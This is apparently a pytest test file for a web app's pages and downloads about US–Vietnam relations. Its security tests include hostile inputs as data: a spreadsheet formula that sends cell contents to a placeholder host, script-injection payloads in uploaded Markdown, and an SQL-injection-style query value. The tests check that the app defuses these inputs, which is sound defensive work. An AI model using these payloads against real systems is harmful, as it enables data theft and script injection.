"""Server-rendered pages: overview, dyad, month explanation, events, documents, citations, downloads."""

from __future__ import annotations

import csv
import io
import json

import pytest
from sample_store import DOCS, XSS_TITLE, doc_id, span

DOC0 = doc_id(DOCS[0]["text"])


@pytest.mark.parametrize(
    "url, expected",
    [
        ("/", ["United States – Vietnam", "good (low)", '<svg class="spark"']),
        (
            "/dyads/USA-VNM",
            [
                'id="plot-timeline"',
                'data-trace-toggle="plot-timeline"',
                "Drivers",
                "Constraints",
                "Vietnam anticipates China&#39;s reaction",
                "2022 trade differs by reporter",
            ],
        ),
        ("/dyads/vnm-usa", ["Vietnam – United States"]),
        ("/events", ["Event explorer", "64 events", 'id="next-page"']),
        ("/documents", ["Washington and Hanoi upgrade ties", "Tariffs strain trade"]),
        ("/api/v1/docs", ["swagger"]),
    ],
)
def test_pages_render(client, url, expected):
    response = client.get(url)
    assert response.status_code == 200, response.text[:500]
    for text in expected:
        assert text in response.text


def test_pages_explain_fragment_lists_evidence_with_citation_links(client):
    response = client.get("/dyads/USA-VNM/explain/2023-09")
    assert response.status_code == 200 and "<html" not in response.text  # a fragment for htmx
    assert "They raised the relationship to a comprehensive strategic partnership." in response.text
    start, end = span(0, 1)
    assert f"/documents/{DOC0}/cite?start={start}&amp;end={end}" in response.text


def test_pages_citation_redirects_to_the_sentence_anchor(client):
    start, end = span(0, 1)
    response = client.get(f"/documents/{DOC0}/cite?start={start}&end={end}", follow_redirects=False)
    assert response.status_code == 303
    assert response.headers["location"] == f"/documents/{DOC0}?hl={start}-{end}#s-1"


def test_pages_document_highlights_spans_and_anchors_sentences(client):
    start, end = span(0, 1)
    html = client.get(f"/documents/{DOC0}?hl={start}-{end}").text
    for idx in range(4):
        assert f'id="s-{idx}"' in html
    assert '<mark class="k-event cited">They raised the relationship' in html
    assert '<mark class="k-indicator ">Trade reached USD 100 billion' in html


def test_pages_event_explorer_fragment_for_htmx(client):
    response = client.get("/events?dimension=economic", headers={"hx-request": "true"})
    assert "<html" not in response.text and "Impose embargo or sanctions" in response.text
    assert "1 event ·" in response.text


@pytest.mark.parametrize(
    "url, status",
    [
        ("/dyads/USA-XXX", 404),
        ("/dyads/USA-VNM/explain/2023-9", 400),
        ("/events?sort=1;DROP", 400),
        ("/events?page=99", 400),
        (f"/documents/{DOC0}?hl=1-2-3", 400),
        ("/download/secrets.csv", 400),
        ("/download/events.xlsx", 400),
        ("/download/timeline.csv", 400),
    ],
)
def test_pages_bad_parameters_give_an_error_page(client, url, status):
    response = client.get(url)
    assert response.status_code == status


def test_pages_error_page_is_html_for_pages(client):
    response = client.get("/dyads/USA-XXX")
    assert response.headers["content-type"].startswith("text/html") and "E401" in response.text


def test_download_spreadsheet_csv_defuses_formulas_keeps_numbers(client):
    text = client.get("/download/indicators.csv?dyad=USA-VNM&spreadsheet=true").text
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(text))}
    assert rows["i2"]["source_attribution"] == '\'=HYPERLINK("http://x?"&A1)'
    assert rows["i3"]["value"] == "-3.2" and rows["i3"]["source_attribution"] == XSS_TITLE


def test_download_plain_csv_and_json_are_raw(client):
    plain = {r["id"]: r for r in csv.DictReader(io.StringIO(client.get("/download/indicators.csv").text))}
    assert plain["i2"]["source_attribution"] == '=HYPERLINK("http://x?"&A1)'
    records = {r["id"]: r for r in json.loads(client.get("/download/indicators.json").text)}
    assert (
        records["i2"]["source_attribution"] == '=HYPERLINK("http://x?"&A1)' and records["i3"]["value"] == -3.2
    )


@pytest.mark.parametrize(
    "table", ["events", "documents", "claims", "timeline", "drivers", "constraints", "findings"]
)
def test_download_every_table(client, table):
    response = client.get(f"/download/{table}.csv?dyad=USA-VNM")
    assert response.status_code == 200 and response.headers["content-disposition"].endswith(f'{table}.csv"')
    assert len(list(csv.DictReader(io.StringIO(response.text)))) >= 1


def test_download_events_follow_the_filters(client):
    rows = list(csv.DictReader(io.StringIO(client.get("/download/events.csv?dimension=economic").text)))
    assert [r["id"] for r in rows] == ["e3"]


def test_pages_overview_handles_a_refused_assessment(sample_path):
    from fastapi.testclient import TestClient

    from dyadscope.errors import make
    from dyadscope.web.app import create_app

    def refuse(a, b, **kw):
        raise make("E605", dyad=f"{a}-{b}")

    app = create_app(sample_path)
    app.state.web.db.assess = refuse
    client = TestClient(app, base_url="http://127.0.0.1")
    assert "E605" in client.get("/").text
    page = client.get("/dyads/USA-VNM")
    assert page.status_code == 200 and "No evidence for USA-VNM" in page.text
    assert "Washington and Hanoi upgrade ties" in page.text  # indicators still shown with their sources
    assert client.get("/dyads/USA-VNM/explain/2023-09").status_code == 400  # the refusal, not a 501


def test_pages_assessment_bug_is_a_500(sample_path):
    """Issue #13: a broken stage is a server error, never a page saying "not available yet"."""
    from fastapi.testclient import TestClient

    from dyadscope.web.app import create_app

    app = create_app(sample_path)
    app.state.web.db.assess = lambda a, b, **kw: (_ for _ in ()).throw(ImportError("no stage"))
    client = TestClient(app, base_url="http://127.0.0.1", raise_server_exceptions=False)
    assert client.get("/").status_code == 500 and client.get("/dyads/USA-VNM").status_code == 500


def test_upload_markdown_with_active_content_renders_inert(ingest_client):
    """RELIABILITY case 10: raw <script>, <img onerror> and a javascript: link in uploaded Markdown."""
    text = (
        b"# Ministers meet in Hanoi\n\nPublished 3 March 2025.\n\n<script>alert(1)</script>\n\n"
        b'<img src=x onerror="alert(2)">\n\nThe foreign ministers of Vietnam and the United States met in '
        b"Hanoi on 3 March 2025. See [the statement](javascript:alert(3)).\n"
    )
    response = ingest_client.post("/api/v1/ingest", files={"file": ("ministers.md", text)})
    assert response.status_code == 200, response.text
    outcome = response.json()["outcomes"][0]
    assert outcome["status"] == "ok"
    page = ingest_client.get(f"/documents/{outcome['doc_id']}").text
    assert "<script>alert" not in page and "<img src=x" not in page and 'href="javascript:' not in page
    assert "foreign ministers of Vietnam" in page


def test_pages_api_docs_use_vendored_swagger_only(client):
    html = client.get("/api/v1/docs").text
    assert "http://" not in html and "https://" not in html
    assert "<script>" not in html  # no inline script: the CSP has no exception for it
    vendor = "/static/vendor/swagger-ui/"
    for asset in (vendor + "swagger-ui-bundle.js", vendor + "swagger-ui.css", "/static/api-docs.js"):
        assert asset in html and client.get(asset).status_code == 200


def test_pages_issue_15_short_ids_open_documents_and_source_is_the_publisher(client):
    listing = client.get("/documents").text
    assert f'href="/documents/{DOC0[:12]}"' in listing
    assert "/tmp/" not in listing and "corpus/" not in listing  # no server paths
    response = client.get(f"/documents/{DOC0[:12]}", follow_redirects=False)
    assert response.status_code == 303 and response.headers["location"] == f"/documents/{DOC0}"
    assert client.get(f"/documents/{DOC0[:12]}").status_code == 200
    assert client.get("/documents/abcdef000000").status_code == 404  # unknown
    assert client.get("/documents/zz").status_code == 404  # not an id


def test_pages_issue_15_downloads_as_parquet_and_excel(client):
    import io

    import pandas as pd

    response = client.get("/download/events.parquet?dyad=USA-VNM")
    assert response.status_code == 200 and response.headers["content-type"].startswith(
        "application/vnd.apache"
    )
    frame = pd.read_parquet(io.BytesIO(response.content))
    assert len(frame) == len(client.get("/download/events.json?dyad=USA-VNM").json())
    excel = client.get("/download/events.xlsx?dyad=USA-VNM")
    try:
        import openpyxl  # noqa: F401
    except ImportError:  # the optional extra is missing: a coded refusal, not a crash
        assert excel.status_code == 400 and excel.json()["code"] == "E718"
    else:
        assert excel.status_code == 200 and len(pd.read_excel(io.BytesIO(excel.content))) == len(frame)
    assert 'href="/download/indicators.parquet?dyad=USA-VNM"' in client.get("/dyads/USA-VNM").text
    assert client.get("/download/events.exe").status_code == 400


def test_chart_download_lines_carry_an_escaped_source_line(client):
    """Each chart of the dyad page has "PNG · SVG" buttons whose data-source the template escapes."""
    text = client.get("/dyads/USA-VNM").text
    assert 'data-chart-export="plot-timeline" data-format="png"' in text
    assert 'data-chart-export="plot-timeline" data-format="svg"' in text
    assert 'data-source="Source: dyadscope assessment of USA–VNM, ' in text
    assert "evidence to 20" in text and "; generated 20" in text
    compare = client.get("/compare?dyads=USA-VNM").text
    assert 'data-source="Source: dyadscope assessments of USA–VNM' in compare
